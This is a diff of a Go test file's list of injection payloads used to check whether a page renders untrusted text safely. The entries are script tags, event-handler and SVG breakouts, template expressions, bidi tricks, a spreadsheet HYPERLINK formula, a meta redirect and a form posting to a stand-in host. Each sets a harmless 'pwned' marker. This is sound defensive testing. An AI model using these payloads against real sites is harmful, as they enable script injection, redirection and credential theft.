@@ -34,24 +34,27 @@ import (
 
 // poisons are texts that become something else than text on a page that is
 // careless: in an element, an attribute, a link, a script, a style, a template.
-// Whatever of them comes alive is marked with pwned.
+// Whatever of them comes alive is marked with pwned. Each fits in the shortest of
+// the fields that a text may be written in: 150 signs with what is around it.
 var poisons = []string{
 	`<script data-pwned>document.documentElement.dataset.pwned=1</script>`,
 	`"><img data-pwned src=x onerror="document.documentElement.dataset.pwned=1">`,
 	`' data-pwned onmouseover='document.documentElement.dataset.pwned=1' autofocus onfocus='document.documentElement.dataset.pwned=1' x='`,
-	`<svg data-pwned/onload=document.documentElement.dataset.pwned=1><a xlink:href="javascript:1" href="javascript:1"><circle r=9 /></a></svg>`,
+	`<svg data-pwned/onload=document.documentElement.dataset.pwned=1><a xlink:href="javascript:1"><circle r=9 /></a></svg>`,
 	`{{.W}}{{7*7}}{{printf "%s" .}}${7*7}<%= 7*7 %>#{7*7}`,
 	`javascript:document.documentElement.dataset.pwned=1//`,
 	`</textarea></select></option></title></style></script><script data-pwned>document.documentElement.dataset.pwned=1</script>`,
-	`<style data-pwned>*{display:none!important}</style><base data-pwned href="https://ond.example/"><meta data-pwned http-equiv="refresh" content="0;url=https://ond.example/">`,
+	`<style data-pwned>*{display:none!important}</style><base data-pwned href="https://ond.example/">`,
 	"Hun sa \u202Eettemokt <b data-pwned>fet</b>\u202C \u2066skjult\u2069 \u200B",
 	`&lt;b data-pwned&gt; &#60;b data-pwned&#62; &amp;quot; %3Cscript%3E \u003cscript\u003e`,
-	`<iframe data-pwned srcdoc="<script>parent.document.documentElement.dataset.pwned=1</script>"></iframe><form data-pwned action="https://ond.example"><input name=nokkel>`,
+	`<iframe data-pwned srcdoc="<script>parent.document.documentElement.dataset.pwned=1</script>"></iframe>`,
 	`[klikk](javascript:alert(1)) ![x](https://ond.example/x.png) <https://ond.example>`,
 	`<!-- --!> <![CDATA[<b data-pwned>]]> <?php ?> <math data-pwned><mtext><table><mglyph><style><img src=x onerror=1>`,
-	strings.Repeat("ordetsomaldritarslutt", 15),
+	strings.Repeat("ordetsomaldritarslutt", 6),
 	`=HYPERLINK("https://ond.example";"klikk")`,
 	"`${alert(1)}` '-alert(1)-' \\';alert(1);// \\u0027",
+	`<meta data-pwned http-equiv="refresh" content="0;url=https://ond.example/">`,
+	`<form data-pwned action="https://ond.example"><input name=nokkel>`,
 }
 
 // poison wraps one, so that it is known again wherever it is shown.
